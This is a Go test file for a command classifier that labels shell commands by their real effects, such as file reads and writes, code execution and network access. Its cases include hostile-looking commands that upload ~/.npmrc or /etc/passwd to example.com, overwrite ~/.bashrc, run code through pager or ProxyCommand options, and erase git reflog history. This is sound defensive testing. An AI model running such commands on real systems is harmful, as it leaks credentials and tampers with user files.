package classify

import (
	"strings"
	"testing"

	"github.com/mnemos-dev/mnemos/shellparse"
)

// classifyFirst parses src in /w (home /home/u) and classifies its first
// command, whatever its program is written as, as mnemos run runs it
// (runPlace).
func classifyFirst(t *testing.T, src string) Classification {
	t.Helper()
	s, err := shellparse.ParseScript(src, shellparse.Env{Home: "/home/u", Cwd: "/w"})
	if err != nil || len(s.Commands) == 0 {
		t.Fatalf("%s: %v", src, err)
	}
	return Classify(s.Commands[0], runPlace(s, "/w", "/home/u"))
}

// runPlace is PlaceOf for a script that mnemos run runs: with
// TerminalEnv, unless the script takes it away.
func runPlace(s *shellparse.Script, cwd, home string) Place {
	pl := PlaceOf(s, cwd, home)
	pl.TerminalEnv = TerminalEnvKept(s.Commands)
	return pl
}

// TestSecurityClassifyToolOptions: an option of a reading tool that
// writes a file, reads one the operands do not name, or runs a command is
// classified as what it does, however it is spelt.
func TestSecurityClassifyToolOptions(t *testing.T) {
	cases := []struct {
		src, want string
	}{
		// less -o/-O/--log-file FILE copies its input to FILE.
		{"less -o ~/.bashrc README.md", "fs:write /home/u/.bashrc; fs:read /w/README.md; code:exec less -o /home/u/.bashrc README.md"},
		{"less -O~/.bashrc README.md", "fs:write /home/u/.bashrc; fs:read /w/README.md; code:exec less -O~/.bashrc README.md"},
		{"less -RSo log.txt README.md", "fs:write /w/log.txt; fs:read /w/log.txt; fs:read /w/README.md"},
		{"less --log-file=log.txt README.md", "fs:write /w/log.txt; fs:read /w/README.md"},
		{"less --log log.txt README.md", "fs:write /w/log.txt; fs:read /w/README.md"},
		{"less --LOG-FILE log.txt README.md", "fs:write /w/log.txt; fs:read /w/README.md"},
		{"less -k keys README.md", "code:exec less -k keys README.md; fs:read /w/README.md"},
		{"less -N -x4 README.md", "fs:read /w/README.md"},
		{"zless -o log.txt x.gz", "fs:write /w/log.txt; fs:read /w/x.gz"},
		{"LESS=-R less README.md", "fs:read /w/README.md"},
		{"LESS='-o log.txt' less README.md", "code:exec less README.md; fs:read /w/README.md"},
		{"LESSKEYIN=k less README.md", "code:exec less README.md; fs:read /w/README.md"},
		{"view -S x.vim README.md", "code:exec view -S x.vim README.md; fs:read /w/README.md"},
		// view is vim: it runs what is typed at it (terminal.go).
		{"view -u NONE README.md", "fs:read /w/README.md; code:exec view -u NONE README.md"},
		{"view -w keys.log README.md", "fs:write /w/keys.log; fs:read /w/README.md; code:exec view -w keys.log README.md"},
		{"view -u NONE README.md < /dev/null", "fs:read /w/README.md"},
		{"man ~/.npmrc", "parse:local; fs:read /home/u/.npmrc"},
		{"man -l page.1", "parse:local; fs:read /w/page.1"},
		{"man -C man.conf ls", "parse:local; code:exec man -C man.conf ls"},
		{"man --pag=cat ls", "parse:local; code:exec man --pag=cat ls"},
		{"hostname -f", "parse:local"},
		{"hostname evil", "parse:local; code:exec hostname evil"},
		{"hash -p /tmp/x cat", "parse:local; code:exec hash -p /tmp/x cat"},
		{"ss -D out.txt", "parse:local; fs:write /w/out.txt"},
		// sort: -o in a cluster or abbreviated, and its helper program.
		{"sort -ro out.txt in.txt", "fs:write /w/out.txt; fs:read /w/out.txt; fs:read /w/in.txt"},
		{"sort --out out.txt in.txt", "fs:write /w/out.txt; fs:read /w/in.txt"},
		{"sort -o a.txt -o b.txt in.txt", "fs:write /w/a.txt; fs:write /w/b.txt; fs:read /w/in.txt"},
		{"sort --compress-program=gzip in.txt", "code:exec sort --compress-program=gzip in.txt; fs:read /w/in.txt"},
		{"sort --files0-from=list", "fs:read /w/list; fs:read (dynamic); parse:local"},
		{"sort -t , -k 2 in.txt", "fs:read /w/in.txt"},
		{"xxd -r in.hex out.bin", "fs:write /w/out.bin; fs:read /w/in.hex; fs:read /w/out.bin"},
		{"xxd -ps -c 16 in.bin", "fs:read /w/in.bin"},
		{"yq -i '.a = 1' c.yaml", "fs:write /w/c.yaml; parse:local; fs:read /w/c.yaml"},
		{"yq -Pi '.a = 1' c.yaml", "fs:write /w/c.yaml; parse:local; fs:read /w/c.yaml"},
		{"yq '.a' c.yaml", "parse:local; fs:read /w/c.yaml"},
		{"yq 'load(\"x\")' c.yaml", "fs:read (dynamic); parse:local; fs:read /w/c.yaml"},
		{"yq '.loader' c.yaml", "parse:local; fs:read /w/c.yaml"},
		{"jq -n --rawfile n ~/.npmrc '$n'", "fs:read /home/u/.npmrc; parse:local"},
		{"jq --arg k v .x data.json", "parse:local; fs:read /w/data.json"},
		{"jq -f prog.jq data.json", "fs:read /w/prog.jq; parse:local; fs:read /w/data.json"},
		{"grep -f ~/.npmrc x", "fs:read /home/u/.npmrc; fs:read /w/x"},
		{"grep -rn TODO", "fs:read /w"},
		{"grep TODO", "parse:local"},
		{"rg TODO", "fs:read /w"},
		{"rg --pre ./x TODO .", "code:exec rg --pre ./x TODO .; fs:read /w"},
		{"diff --from-file=~/.npmrc a", "fs:read /home/u/.npmrc; fs:read /w/a"},
		{"sdiff --diff-program=./x a b", "code:exec sdiff --diff-program=./x a b; fs:read /w/a; fs:read /w/b"},
		{"bat --pager=./x README.md", "code:exec bat --pager=./x README.md; fs:read /w/README.md"},
		{"bat --paging=never README.md", "fs:read /w/README.md"},
		{"nm --plugin ./p.so a.o", "code:exec nm --plugin ./p.so a.o; fs:read /w/a.o"},
		{"file -C -m magic", "fs:read /w/magic; fs:write /w; parse:local"},
		{"tree -R -L 2", "code:exec tree -R -L 2; fs:read /w"},
		{"zstd -o ~/.bashrc x", "fs:write /home/u/.bashrc; fs:write /w/x; code:exec zstd -o /home/u/.bashrc x"},
		{"split --filter=sh big", "code:exec split --filter=sh big; fs:write /w/big"},
		// Network tools: local files read or written, local commands run,
		// and option values that are not hosts.
		{"curl -O https://example.com/x", "network:http example.com; fs:write /w"},
		{"curl -c jar.txt https://example.com", "fs:write /w/jar.txt; network:http example.com"},
		{"curl -T ~/.npmrc https://example.com", "fs:read /home/u/.npmrc; network:http example.com"},
		{"curl -d @~/.npmrc https://example.com", "network:http example.com; fs:read /home/u/.npmrc"},
		{"curl -F f=@/etc/passwd https://example.com", "network:http example.com; fs:read /etc/passwd"},
		{"curl file:///etc/passwd", "network:http (dynamic); fs:read /etc/passwd"},
		{"wget -P /tmp/d https://example.com/x", "fs:write /tmp/d; network:http example.com"},
		{"wget -qO- https://example.com/x", "network:http example.com"},
		{"ssh -p 22 example.com", "network:http example.com"},
		{"ssh -oProxyCommand=x example.com", "network:http example.com; code:exec ssh -oProxyCommand=x example.com"},
		{"scp -S ./x a example.com:b", "code:exec scp -S ./x a example.com:b; network:http example.com; fs:write /w/a"},
		{"nc -w 3 example.com 80", "network:http example.com"},
		{"rsync -e 'ssh -p 2222' a example.com:b", "network:http example.com; fs:read /w/a; fs:write /w/example.com:b"},
		{"rsync -e 'sh -c x' a example.com:b", "code:exec rsync -e sh -c x a example.com:b; network:http example.com; fs:read /w/a; fs:write /w/example.com:b"},
		{"mail -a ~/.npmrc -s hi a@example.com", "fs:read /home/u/.npmrc; mail:send a@example.com"},
	}
	for _, tc := range cases {
		if got := accessList(classifyFirst(t, tc.src)); got != tc.want {
			t.Errorf("%s:\n got %s\nwant %s", tc.src, got, tc.want)
		}
	}
}

// TestSecurityClassifyGitFiles: git reads files outside the repository
// with diff --no-index (or two paths, one outside), writes --output, and
// drops history with reflog expire and delete.
func TestSecurityClassifyGitFiles(t *testing.T) {
	cases := []struct {
		src, want, verb string
	}{
		{"git diff", "fs:read /w", "read"},
		{"git diff HEAD~1", "fs:read /w", "read"},
		{"git diff HEAD~1 HEAD", "fs:read /w; fs:read /w/HEAD~1; fs:read /w/HEAD", "read"},
		{"git diff --no-index ~/.npmrc /dev/null", "fs:read /w; fs:read /home/u/.npmrc", "read"},
		{"git diff ~/.npmrc README.md", "fs:read /w; fs:read /home/u/.npmrc; fs:read /w/README.md", "read"},
		{"git diff --no-index -- a b", "fs:read /w; fs:read /w/a; fs:read /w/b", "read"},
		{"git diff $X /dev/null", "fs:read /w; fs:read $X (dynamic)", "read"},
		{"git diff --output=~/.bashrc", "fs:read /w; fs:write /home/u/.bashrc; code:exec git diff --output=~/.bashrc", "write"},
		{"git log -p --output x.patch", "fs:read /w; fs:write /w/x.patch", "write"},
		{"git diff --output-indicator-new=+", "fs:read /w", "read"},
		{"git grep -nf ~/.npmrc", "fs:read /w; fs:read /home/u/.npmrc", "read"},
		{"git grep -e f x", "fs:read /w", "read"},
		{"git blame --contents ~/.npmrc x", "fs:read /w; fs:read /home/u/.npmrc", "read"},
		{"git reflog", "fs:read /w", "read"},
		{"git reflog show main", "fs:read /w", "read"},
		{"git reflog -n 5", "fs:read /w", "read"},
		{"git reflog expire --expire=now --all", "fs:read /w; fs:write /w", "drop history from the repository"},
		{"git reflog delete HEAD@{1}", "fs:read /w; fs:write /w", "drop history from the repository"},
		{"git reflog $SUB", "fs:read /w; fs:write /w", "drop history from the repository"},
		{"git help -w log", "fs:read /w; code:exec git help -w log", "run"},
	}
	for _, tc := range cases {
		c := classifyFirst(t, tc.src)
		if got := accessList(c); got != tc.want || c.Verb != tc.verb {
			t.Errorf("%s:\n got %s (%s)\nwant %s (%s)", tc.src, got, c.Verb, tc.want, tc.verb)
		}
	}
	if r := classifyScript(t, "git reflog expire --all").Reversibility; r != "irreversible" {
		t.Errorf("git reflog expire: reversibility %q", r)
	}
}

// TestSecurityClassifyProgramPath: a program run from a path outside the
// system's bin directories is whatever was put there, so it runs code;
// the same tool from a system bin directory keeps its classification.
func TestSecurityClassifyProgramPath(t *testing.T) {
	cases := []struct {
		src, want string
	}{
		{"./cat README.md", "code:exec ./cat README.md"},
		{"/tmp/cat README.md", "code:exec /tmp/cat README.md"},
		{"./ls", "code:exec ./ls"},
		{"bin/ls", "code:exec bin/ls"},
		{"../cat x", "code:exec ../cat x"},
		{"~/bin/cat x", "code:exec /home/u/bin/cat x"},
		{"/usr/bin/../../tmp/cat x", "code:exec /usr/bin/../../tmp/cat x"},
		{"/usr/bin/sub/cat x", "code:exec /usr/bin/sub/cat x"},
		{"./cat x > out.txt", "code:exec ./cat x >out.txt; fs:write /w/out.txt"},
		{"/tmp/env cat x", "code:exec /tmp/env cat x"},
		{"/bin/cat x", "fs:read /w/x"},
		{"/usr/bin/cat x", "fs:read /w/x"},
		{"/usr/bin//cat x", "fs:read /w/x"},
		{"/usr/local/bin/rg TODO", "fs:read /w"},
		{"/opt/homebrew/bin/cat x", "fs:read /w/x"},
		{"/usr/bin/env cat x", "fs:read /w/x"},
		{"cat x", "fs:read /w/x"},
	}
	for _, tc := range cases {
		if got := accessList(classifyFirst(t, tc.src)); got != tc.want {
			t.Errorf("%s:\n got %s\nwant %s", tc.src, got, tc.want)
		}
	}
	if v := classifyFirst(t, "./cat x").Verb; v != "run" {
		t.Errorf("./cat verb %q", v)
	}
}

func TestOptionValues(t *testing.T) {
	spec := toolSpec{opts: []string{"-t", "--key"}, outs: []string{"-o", "--output"}}
	words := func(ss ...string) []shellparse.Word {
		out := make([]shellparse.Word, len(ss))
		for i, s := range ss {
			out[i] = shellparse.Word{Value: s}
		}
		return out
	}
	cases := []struct {
		args []string
		want string
	}{
		{[]string{"-o", "a"}, "a"},
		{[]string{"-oa"}, "a"},
		{[]string{"-ro", "a"}, "a"},
		{[]string{"-roa"}, "a"},
		{[]string{"-to", "a"}, ""},      // o is -t's value
		{[]string{"-t", "-o", "a"}, ""}, // -o is -t's value
		{[]string{"--output", "a"}, "a"},
		{[]string{"--output=a"}, "a"},
		{[]string{"--out=a"}, "a"},
		{[]string{"--ou", "a"}, "a"},
		{[]string{"--key", "--output"}, ""},
		{[]string{"--", "-o", "a"}, ""},
		{[]string{"x", "-o", "a", "-o", "b"}, "a b"},
		{[]string{"-o"}, ""},
	}
	for _, tc := range cases {
		var got []string
		for _, w := range optionValues(words(tc.args...), spec, spec.outs) {
			got = append(got, w.Value)
		}
		if s := strings.Join(got, " "); s != tc.want {
			t.Errorf("%q: got %q, want %q", tc.args, s, tc.want)
		}
	}
}
